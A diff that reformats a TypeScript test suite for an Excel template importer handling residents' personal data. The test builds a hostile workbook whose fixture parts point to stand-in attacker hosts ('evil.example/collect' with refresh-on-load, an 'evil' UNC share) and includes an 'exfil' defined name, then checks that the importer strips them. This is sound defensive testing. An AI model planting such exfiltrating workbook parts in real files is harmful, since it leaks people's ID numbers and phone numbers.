@@ -87,17 +87,44 @@ async function hostileTemplate(): Promise<Uint8Array<ArrayBuffer>> {
   wb.definedNames.add("'隐藏'!$A$1", 'leak')
   const parts = partsOf(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer))
   const text = (name: string) => parts.get(name)?.toString('utf8') ?? ''
-  parts.set('xl/externalLinks/externalLink1.xml', Buffer.from('<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'))
-  parts.set('xl/externalLinks/_rels/externalLink1.xml.rels', Buffer.from('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil\\share\\收集.xlsx" TargetMode="External"/></Relationships>'))
-  parts.set('xl/connections.xml', Buffer.from('<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/collect"/></connection></connections>'))
+  parts.set(
+    'xl/externalLinks/externalLink1.xml',
+    Buffer.from(
+      '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
+    )
+  )
+  parts.set(
+    'xl/externalLinks/_rels/externalLink1.xml.rels',
+    Buffer.from(
+      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil\\share\\收集.xlsx" TargetMode="External"/></Relationships>'
+    )
+  )
+  parts.set(
+    'xl/connections.xml',
+    Buffer.from(
+      '<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/collect"/></connection></connections>'
+    )
+  )
   parts.set('xl/vbaProject.bin', Buffer.from('not really VBA, but where it would be'))
-  parts.set('xl/_rels/workbook.xml.rels', Buffer.from(text('xl/_rels/workbook.xml.rels').replace('</Relationships>',
-    '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>' +
-    '<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/>' +
-    '<Relationship Id="rIdX3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')))
-  parts.set('xl/workbook.xml', Buffer.from(text('xl/workbook.xml')
-    .replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
-    .replace('</definedNames>', `<definedName name="exfil">${EXFIL.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</definedName></definedNames>`)))
+  parts.set(
+    'xl/_rels/workbook.xml.rels',
+    Buffer.from(
+      text('xl/_rels/workbook.xml.rels').replace(
+        '</Relationships>',
+        '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>' +
+          '<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/>' +
+          '<Relationship Id="rIdX3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
+      )
+    )
+  )
+  parts.set(
+    'xl/workbook.xml',
+    Buffer.from(
+      text('xl/workbook.xml')
+        .replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
+        .replace('</definedNames>', `<definedName name="exfil">${EXFIL.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</definedName></definedNames>`)
+    )
+  )
   return zip(parts)
 }
 
@@ -112,7 +139,14 @@ function expectHarmless(bytes: Uint8Array): void {
 }
 
 const register = (bytes: Uint8Array<ArrayBuffer>, name = '每日排查表', sheet = 0): MethodArgs<'excel.registerTemplate'> => ({
-  name, list: 'residents', fileName: '日报.xlsx', bytes, sheet, headerStart: 2, headerEnd: 2, mapping: ['seq', 'name', 'idNumber', 'phone']
+  name,
+  list: 'residents',
+  fileName: '日报.xlsx',
+  bytes,
+  sheet,
+  headerStart: 2,
+  headerEnd: 2,
+  mapping: ['seq', 'name', 'idNumber', 'phone']
 })
 
 async function arrange(): Promise<{ clerk: Caller; worker: Caller }> {
@@ -149,9 +183,16 @@ describe('attack: a template that carries the filled numbers away', () => {
     const { clerk } = await arrange()
     const t = await clerk.ok('excel.registerTemplate', register(await hostileTemplate()))
     expect(t.removed).toEqual([
-      '宏（VBA 代码）', '指向其他文件的外部链接', '数据连接和查询',
-      '隐藏的工作表“隐藏”', '深度隐藏的工作表“深藏”', '3 个公式（已换成公式原来显示的值）', '1 个超链接（保留文字）',
-      '1 条含外部调用的条件格式或数据验证', '1 个指向外部或隐藏工作表的名称', '1 个含公式的名称'
+      '宏（VBA 代码）',
+      '指向其他文件的外部链接',
+      '数据连接和查询',
+      '隐藏的工作表“隐藏”',
+      '深度隐藏的工作表“深藏”',
+      '3 个公式（已换成公式原来显示的值）',
+      '1 个超链接（保留文字）',
+      '1 条含外部调用的条件格式或数据验证',
+      '1 个指向外部或隐藏工作表的名称',
+      '1 个含公式的名称'
     ])
     const stored = b.store.get<{ file: Uint8Array }>('SELECT file FROM excel_templates')
     expectHarmless(stored?.file ?? new Uint8Array())
@@ -171,7 +212,22 @@ describe('attack: a template that carries the filled numbers away', () => {
     const { clerk } = await arrange()
     const file = await hostileTemplate()
     const id = b.store.transaction((tx) =>
-      insertTemplate(tx, { name: '旧模板', list: 'residents', fileName: '日报.xlsx', file, sheetName: '日报', headerStart: 2, headerEnd: 2, headers: '[]', mapping: JSON.stringify(['seq', 'name', 'idNumber', 'phone']), by: '旧版本' }, '2026-01-01T00:00:00.000Z')
+      insertTemplate(
+        tx,
+        {
+          name: '旧模板',
+          list: 'residents',
+          fileName: '日报.xlsx',
+          file,
+          sheetName: '日报',
+          headerStart: 2,
+          headerEnd: 2,
+          headers: '[]',
+          mapping: JSON.stringify(['seq', 'name', 'idNumber', 'phone']),
+          by: '旧版本'
+        },
+        '2026-01-01T00:00:00.000Z'
+      )
     )
     const full = await clerk.ok('excel.fillTemplateFull', { templateId: `saved:${id}`, filter: {}, reason: '街道办核对' })
     const text = allText(full.bytes)
